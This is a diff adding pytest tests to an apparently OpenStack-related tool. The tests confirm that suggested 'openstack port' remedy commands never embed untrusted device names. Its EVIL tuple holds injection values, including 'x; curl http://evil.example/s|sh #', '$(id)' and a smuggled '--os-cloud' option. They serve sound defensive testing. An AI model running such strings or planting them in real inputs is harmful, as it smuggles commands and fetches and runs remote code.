@@ -268,3 +268,21 @@ def test_who_a_network_or_group_is_shared_with_is_named(cloud: FakeCloud, target
 def test_a_neutron_without_sharing_is_no_error(cloud: FakeCloud) -> None:
     cloud.fail("rbac_policies", [exceptions.NotFoundException()] * 9)
     assert additions(cloud) == []
+
+
+EVIL = ("x; curl http://evil.example/s|sh #", "$(id)", "--os-cloud=other", "a b", "esc\x1b[2J", "a\nb", "'")
+
+
+@pytest.mark.parametrize("device", EVIL)
+@pytest.mark.parametrize("owner", ["compute:nova", "network:router_interface", "Octavia", ""])
+def test_what_others_call_their_devices_is_in_no_command(cloud: FakeCloud, owner: str, device: str) -> None:
+    for id, text in (("p1", device), ("p2", f"lb-{device}")):
+        add_port(cloud, id, device_owner=owner, device_id=text)
+    assert {one.remedy for one in blockers(cloud)} == {"openstack port delete p1", "openstack port delete p2"}
+
+
+@pytest.mark.parametrize("device", EVIL)
+def test_nor_where_a_group_of_the_bay_protects_it(cloud: FakeCloud, device: str) -> None:
+    fields = {"network_id": "n9", "device_owner": "compute:nova", "device_id": device, "security_group_ids": ["g1"]}
+    add_port(cloud, "p1", **fields)
+    assert [one.remedy for one in blockers(cloud)] == ["openstack port unset --security-group g1 p1"]
